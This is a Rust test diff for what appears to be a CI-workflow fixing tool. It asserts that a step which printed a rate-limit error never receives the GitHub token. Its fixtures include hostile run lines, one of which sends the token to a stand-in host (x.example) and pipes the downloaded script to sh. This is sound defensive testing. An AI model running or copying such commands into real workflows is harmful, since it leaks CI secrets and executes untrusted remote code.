@@ -222,3 +222,24 @@ fn actions_without_credentials_or_unknown_services_say_why() {
     unnamed.rate_limit = None;
     assert!(manual_reason(&unnamed, pull).contains("which service"));
 }
+
+/// The hostile case: a test run printed "API rate limit exceeded" (a fork's
+/// test can print anything). Whatever the step sends, the token never goes
+/// to the code under test.
+#[test]
+fn a_test_step_that_printed_a_rate_limit_never_gets_the_token() {
+    let f = limited(RateLimitService::GithubRestPrimary, "t").at_step_number(2);
+    for run in [
+        "pytest -q",
+        "GITHUB_TOKEN=$GITHUB_TOKEN pytest -q",
+        "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/x && pytest -q",
+        "curl -sH \"Authorization: Bearer $GH_TOKEN\" https://x.example/i.sh | sh",
+        "echo $(./scripts/release.sh $GITHUB_TOKEN)",
+    ] {
+        let src = format!(
+            "on: pull_request\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: {run}\n"
+        );
+        let out = outcome(&f, &src);
+        assert!(out.fixes.is_empty(), "{run}: {:?}", out.fixes);
+    }
+}
